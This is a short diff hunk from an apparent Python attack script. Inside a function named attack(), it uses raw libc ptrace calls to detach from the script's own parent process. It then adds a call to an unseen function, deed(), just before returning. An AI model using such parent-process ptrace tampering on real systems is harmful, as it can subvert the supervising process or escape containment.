@@ -34,6 +34,7 @@ def attack():
     if attached == 0:
         os.waitpid(os.getppid(), 0x40000000)  # its stop, before it is let go
         libc.ptrace(17, os.getppid(), 0, 0)  # PTRACE_DETACH
+    deed()
     return "\n".join(map(str, [*found, f"ptrace {attached}"]))
 
 
